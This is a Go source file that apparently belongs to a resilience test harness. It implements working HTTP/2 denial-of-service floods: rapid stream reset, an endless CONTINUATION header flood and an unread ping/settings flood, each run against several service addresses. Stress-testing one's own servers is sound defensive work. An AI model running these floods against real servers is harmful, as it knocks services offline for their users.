package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// Floods of frames that HTTP/2 permits and no client sends so many of.

// hammer has flood send on one connection after another, to all addresses at once, until the time has come or ctx ends. It returns how
// often flood failed: the server ended the connection. A connection that is not opened is tried again.
func hammer(ctx context.Context, until time.Time, addrs []string, flood func(addr string) (opened bool, err error)) (ended int64) {
	var n atomic.Int64
	var wg sync.WaitGroup
	for _, addr := range addrs {
		wg.Go(func() {
			for time.Now().Before(until) && ctx.Err() == nil {
				switch opened, err := flood(addr); {
				case !opened:
					time.Sleep(10 * time.Millisecond)
				case err != nil:
					n.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return n.Load()
}

// rapidReset opens calls and takes them back at once.
func rapidReset(ctx context.Context, w *world, _ *honest, _ *tally) (string, error) {
	var calls atomic.Int64
	until := time.Now().Add(time.Duration(sized(5, 30)) * time.Second)
	ended := hammer(ctx, until, []string{w.otlp, w.mesh, w.otlp, w.mesh}, func(addr string) (bool, error) {
		method := exportMethod
		if addr == w.mesh {
			method = quotaMethod
		}
		c, err := openH2(addr)
		if err != nil {
			return false, err
		}
		defer c.conn.Close()
		for id := uint32(1); time.Now().Before(until); id += 2 {
			if id%128 == 1 {
				time.Sleep(5 * time.Millisecond) // 50,000 a second over all: what more it takes, it takes from the honest sender's processor
			}
			if err := c.write(func(f *http2.Framer) error {
				return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(method, ""), EndHeaders: true}), f.WriteRSTStream(id, http2.ErrCodeCancel))
			}); err != nil {
				return true, err
			}
			calls.Add(1)
		}
		return true, nil
	})
	return fmt.Sprintf("%d calls reset, %d connections ended by the server", calls.Load(), ended), nil
}

// continuationFlood sends a header that never ends.
func continuationFlood(ctx context.Context, w *world, _ *honest, _ *tally) (string, error) {
	var frames atomic.Int64
	// A literal field, never indexed, of 10 kB.
	field := append([]byte{0x10, 1, 'x', 0x7f, 0x91, 0x4d}, make([]byte, 10_000)...)
	until := time.Now().Add(time.Duration(sized(4, 20)) * time.Second)
	ended := hammer(ctx, until, []string{w.otlp, w.mesh, w.rls, w.jaeger}, func(addr string) (bool, error) {
		c, err := openH2(addr)
		if err != nil {
			return false, err
		}
		defer c.conn.Close()
		err = c.write(func(f *http2.Framer) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(exportMethod, "")})
		})
		for err == nil && time.Now().Before(until) {
			err = c.write(func(f *http2.Framer) error { return f.WriteContinuation(1, false, field) })
			if frames.Add(1)%64 == 0 {
				time.Sleep(time.Millisecond)
			}
		}
		return true, err
	})
	return fmt.Sprintf("%d frames of 10 kB, %d connections ended by the server", frames.Load(), ended), nil
}

// pingFlood sends pings and settings and does not read what comes back.
func pingFlood(ctx context.Context, w *world, _ *honest, _ *tally) (string, error) {
	var frames atomic.Int64
	until := time.Now().Add(time.Duration(sized(5, 20)) * time.Second)
	ended := hammer(ctx, until, []string{w.otlp, w.mesh, w.rls, w.jaeger}, func(addr string) (bool, error) {
		conn, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			return false, err
		}
		defer conn.Close()
		f := http2.NewFramer(conn, conn)
		_, err = io.WriteString(conn, http2.ClientPreface)
		err = errors.Join(err, f.WriteSettings())
		for n := 0; err == nil && time.Now().Before(until); n++ {
			_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
			if n%2 == 0 {
				err = f.WritePing(false, [8]byte{1})
			} else {
				err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 70_000})
			}
			frames.Add(1)
			if n%256 == 0 {
				time.Sleep(5 * time.Millisecond)
			}
		}
		return true, err
	})
	return fmt.Sprintf("%d frames, %d connections ended by the server", frames.Load(), ended), nil
}
